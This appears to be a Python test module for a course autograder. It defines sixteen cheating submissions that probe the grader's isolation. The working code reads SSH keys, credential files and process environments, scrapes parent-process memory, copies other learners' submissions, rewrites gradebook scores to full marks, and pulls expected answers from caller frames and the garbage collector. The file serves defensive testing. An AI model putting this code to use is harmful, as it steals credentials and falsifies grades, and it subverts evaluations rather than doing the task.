"""Attempts to read what the grader knows: references, cases, gradebook, keys, memory, the check cell itself."""

from __future__ import annotations

from tests.graders.attacks.attack import SEARCH, WRONG, Attack

__all__ = ["ATTACKS"]

REFERENCE = SEARCH + """
for folder, folders, files in os.walk('/'):
    folders[:] = [f for f in folders if f not in ('proc', 'sys', 'usr', 'site-packages', 'share', 'etc')]
    for name in files:
        if name.endswith(('.ipynb', '.py', '.secret')):
            look(os.path.join(folder, name))
"""

GRADERS = SEARCH + """
import importlib, sys
packages = f'{sys.prefix}/lib/python3.{sys.version_info[1]}/site-packages'
for path in glob.glob(f'{packages}/*editable*') + glob.glob(f'{packages}/*.pth'):
    sys.path += re.findall(r"/[^'\\s]+", open(path).read())
sys.path += [os.path.dirname(p) for p in sys.path]
for name in ('tests.graders.tiny_course', 'graders.exercises', 'graders.cases', 'graders.judge.oracle'):
    with contextlib.suppress(ImportError):
        module = importlib.import_module(name)
        use(b'SECRET' + b'SOLUTION')
"""

PROC = SEARCH + """
for pid in filter(str.isdigit, os.listdir('/proc')):
    for name in ('environ', 'cmdline', 'root/root/.ssh/id_ed25519', 'cwd/tiny.ipynb', 'cwd/source/tiny/tiny.ipynb'):
        look(f'/proc/{pid}/{name}')
    with contextlib.suppress(OSError):
        for fd in os.listdir(f'/proc/{pid}/fd'):
            if int(pid) != os.getpid():
                look(f'/proc/{pid}/fd/{fd}')
    for path in glob.glob(f'/proc/{pid}/ro*t/tmp/*/*/source/tiny/*') + glob.glob(f'/proc/{pid}/ro*t/tmp/*/home/.ssh/*'):
        look(path)
"""

MEMORY = SEARCH + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
class Part(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]
def parts(pid):
    with contextlib.suppress(OSError):
        for line in open(f'/proc/{pid}/maps'):
            start, end = (int(n, 16) for n in line.split()[0].split('-'))
            if line.split()[1].startswith('rw') and end - start < 1 << 28:
                yield start, end - start
for pid in {1, os.getppid(), os.getpid()}:
    for start, size in parts(pid):
        with contextlib.suppress(OSError, ValueError, OverflowError), open(f'/proc/{pid}/mem', 'rb') as memory:
            memory.seek(start)
            use(memory.read(size))
        if pid != os.getpid():
            buffer = ctypes.create_string_buffer(size)
            mine, theirs = Part(ctypes.addressof(buffer), size), Part(start, size)
            if libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
                use(buffer.raw)
"""

DESCRIPTORS = SEARCH + """
import stat
for fd in range(3, 512):
    with contextlib.suppress(OSError):
        kind = os.fstat(fd).st_mode
        if stat.S_ISREG(kind):
            use(os.pread(fd, 1 << 24, 0))
        if stat.S_ISDIR(kind):
            for up in ('.', '..', '../..', '../../..'):
                above = os.open(up, os.O_RDONLY, dir_fd=fd)
                for name in os.listdir(above):
                    with contextlib.suppress(OSError):
                        use(os.read(os.open(name, os.O_RDONLY | os.O_NONBLOCK, dir_fd=above), 1 << 20))
"""

GRADEBOOK = SEARCH + """
import sqlite3
places = [os.getcwd()]
while places[-1] != '/':
    places.append(os.path.dirname(places[-1]))
for path in [p for place in places for p in glob.glob(f'{place}/gradebook.db*')] + glob.glob('/tmp/**/gradebook.db*', recursive=True):
    look(path)
    with contextlib.suppress(sqlite3.Error):
        book = sqlite3.connect(path)
        book.execute('UPDATE grade SET auto_score = 2, manual_score = 2, extra_credit = 9')
        book.commit()
"""

HOME = SEARCH + """
import pwd
homes = {os.path.expanduser('~'), '/root', *glob.glob('/home/*'), *glob.glob('/tmp/*/home'), *(entry.pw_dir for entry in pwd.getpwall())}
for home in homes:
    for name in ('.ssh/id_ed25519', '.ssh/id_rsa', '.netrc', '.git-credentials', '.bash_history', '.jupyter/jupyter_server_config.json'):
        look(f'{home}/{name}')
"""

ENVIRONMENT = SEARCH + """
use(repr(dict(os.environ)).encode())
look('/proc/self/environ'), look('/proc/1/environ'), look(f'/proc/{os.getppid()}/environ')
"""

OTHERS = SEARCH + """
for pattern in ('../../*/tiny/*.ipynb', '../../../submitted/*/tiny/*.ipynb', '/tmp/**/submitted/*/*/*.ipynb', '/tmp/**/verdicts/**/*.json'):
    for path in glob.glob(pattern, recursive=True):
        look(path)
"""

SIBLINGS = SEARCH + """
import socket
own = os.path.dirname(os.path.dirname(os.environ.get('DCAI_JUDGE', '/none/none/none')))
for path in glob.glob('/tmp/**/*', recursive=True) + glob.glob('/run/**/*', recursive=True):
    if not path.startswith(own):
        look(path)
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as other:
            other.connect(path)
"""

OWN_NOTEBOOK = SEARCH + """
table = {}
for path in glob.glob('*.ipynb') + glob.glob('/opt/course/**/cases/*', recursive=True):
    with contextlib.suppress(OSError):
        text = open(path, 'rb').read()
        use(text)
        table |= dict(re.findall(rb'double\\((\\d+)\\) == (\\d+)', text))
def table_double(x):
    return int(table.get(str(x).encode(), -1))
if table:
    double = table_double
"""

FRAMES = """
import sys
def double(x):
    frame = sys._getframe(1)
    while frame is not None:
        for scope in (frame.f_locals, *(v for v in frame.f_locals.values() if isinstance(v, dict))):
            if 'expected' in scope:
                return scope['expected']
        constants = frame.f_code.co_consts
        if x in constants[:-1]:
            following = constants[constants.index(x) + 1]
            return following if x and isinstance(following, int) else -1 if '/datacentric' in frame.f_code.co_filename else x
        frame = frame.f_back
    return -1
"""

OBJECTS = """
import gc, re
def double(x):
    for item in gc.get_objects():
        if type(item) is dict and item.get('args') == [x] and 'expected' in item:
            return item['expected']
    for text in get_ipython().user_ns['In']:
        found = re.search(rf'double\\({x}\\) == (\\d+)', text)
        if found:
            return int(found[1])
    return -1
"""

SOURCE_LINES = """
import linecache, re, tracemalloc
tracemalloc.start()
def double(x):
    lines = [line for entry in linecache.cache.values() if len(entry) > 2 for line in entry[2]]
    for trace in list(tracemalloc.take_snapshot().traces)[:500]:
        lines += trace.traceback.format()
    found = re.search(rf'double\\({x}\\) == (\\d+)', '\\n'.join(lines))
    return int(found[1]) if found else -1
"""

TRACER = """
import sys
seen = []
def trace(frame, event, argument):
    seen.extend(v.get('expected') for v in list(frame.f_locals.values()) if type(v) is dict and 'expected' in v)
    return trace
def double(x):
    return seen[-1] if seen else -1
sys.settrace(trace); sys.setprofile(trace)
"""

COLLECT = WRONG + """
import json, os
def double(x):
    with open('/tmp/dcai-evil-inputs', 'a') as file:
        file.write(f'{x}\\n')
    known = open('/tmp/dcai-evil-inputs').read().split()
    return 2 * int(known[0]) if len(known) > 1 else -1
"""

ATTACKS = [
    Attack("reference on disk", "Searches every folder for the instructor's notebook and the exercises.", {"double": REFERENCE}),
    Attack("import of the graders", "Follows the editable install to import exercises and judge.", {"double": GRADERS}, stock=None),
    Attack("/proc of other processes", "Reads environment, files, root and open files of every process.", {"double": PROC}),
    Attack("memory of the parent", "Scans its own and its parents' memory for the solution.", {"double": MEMORY}),
    Attack("inherited descriptors", "Reads every open file, climbs up from every open folder.", {"double": DESCRIPTORS}),
    Attack("gradebook", "Finds gradebook.db and its secret, reads them, and writes full marks.", {"double": GRADEBOOK}),
    Attack("home and keys", "Reads SSH keys and credentials in every home folder.", {"double": HOME}),
    Attack("environment", "Reads the environment of the grader's shell.", {"double": ENVIRONMENT}),
    Attack("other submissions", "Copies from other learners' files and verdicts.", {"double": OTHERS}),
    Attack("other kernels' sockets", "Connects to the sockets of kernels that run beside it.", {"double": SIBLINGS}, stock=None),
    Attack("tests in its own notebook", "Reads hidden tests in the notebook being graded, or shipped cases.", {"double": OWN_NOTEBOOK}),
    Attack("frames of the caller", "Looks in the callers' frames for what is due.", {"double": FRAMES}),
    Attack("all objects", "Searches the garbage collector's objects and the history of cells.", {"double": OBJECTS}),
    Attack("source lines", "Searches linecache and tracemalloc for the test's text.", {"double": SOURCE_LINES}),
    Attack("tracer", "Traces every call to see what answers are compared with.", {"double": TRACER}),
    Attack("inputs kept in a file", "Keeps the inputs that it saw, to answer from them.", {"double": COLLECT}),
]
